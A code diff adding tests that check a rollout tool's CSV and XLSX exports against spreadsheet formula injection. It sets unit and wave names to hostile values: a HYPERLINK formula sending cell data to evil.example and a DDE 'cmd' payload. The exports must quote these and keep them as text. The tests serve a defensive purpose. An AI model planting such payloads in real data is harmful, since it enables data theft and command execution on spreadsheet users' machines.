@@ -13,6 +13,8 @@ from gatekeeper.core.status import ItemStatus
 from gatekeeper.services.context import Context
 from gatekeeper.services.projects import risk as risks
 from gatekeeper.services.rollout import bulk_tick as unit_bulk
+from gatekeeper.services.rollout import unit as units
+from gatekeeper.services.rollout import wave as waves
 from tests.factories import api_client
 from tests.rollout_factories import PROJEKTLEDARE, ROLLOUT_KEY, start_rollout
 
@@ -151,6 +153,55 @@ def test_units_xlsx_and_waves_csv(client: TestClient) -> None:
     text = client.get(BASE + "/waves.csv").content.decode("utf-8-sig")
     assert text.splitlines()[0].startswith("Våg;Vågnyckel;Driftstart")
     assert "\r\n" in text
+
+
+HOSTILE_UNIT = '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")'
+HOSTILE_WAVE = "=cmd|' /C calc'!A0"
+
+
+def _name_cells_hostile(ctx: Context) -> None:
+    units.update_unit(
+        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, unit_key=BORAS_ENHETER[0], name=HOSTILE_UNIT
+    )
+    units.update_unit(
+        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, unit_key=BORAS_ENHETER[1], name="@SUM(1+1)"
+    )
+    waves.update_wave(
+        ctx, PROJEKTLEDARE, project_key=ROLLOUT_KEY, wave_key="vag-1", name=HOSTILE_WAVE
+    )
+
+
+def test_csv_exports_quote_cells_that_a_spreadsheet_would_run(
+    ctx: Context, client: TestClient
+) -> None:
+    _name_cells_hostile(ctx)
+    text = client.get(BASE + "/units.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    names = {r[2]: r[1] for r in rows[1:]}
+    assert names[BORAS_ENHETER[0]] == "'" + HOSTILE_UNIT
+    assert names[BORAS_ENHETER[1]] == "'@SUM(1+1)"
+    assert {r[4] for r in rows[1:] if r[2] in BORAS_ENHETER} == {"'" + HOSTILE_WAVE}
+    waves_text = client.get(BASE + "/waves.csv").content.decode("utf-8-sig")
+    wave_rows = list(csv.reader(io.StringIO(waves_text), delimiter=";"))
+    assert wave_rows[1][0] == "'" + HOSTILE_WAVE
+    for row in rows + wave_rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+
+
+def test_xlsx_exports_hold_text_never_formulas(ctx: Context, client: TestClient) -> None:
+    _name_cells_hostile(ctx)
+    for table in ("units", "waves"):
+        sheet = load_workbook(io.BytesIO(client.get(f"{BASE}/{table}.xlsx").content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+        assert "'" + HOSTILE_WAVE in texts
+        assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
+    units_sheet = load_workbook(io.BytesIO(client.get(BASE + "/units.xlsx").content)).active
+    names = {row[2]: row[1] for row in units_sheet.iter_rows(min_row=2, values_only=True)}
+    assert names[BORAS_ENHETER[0]] == "'" + HOSTILE_UNIT
+    # numbers stay numbers
+    assert any(isinstance(c, int) for c in next(units_sheet.iter_rows(min_row=2, values_only=True)))
 
 
 def test_unknown_format_and_unknown_project(client: TestClient) -> None:
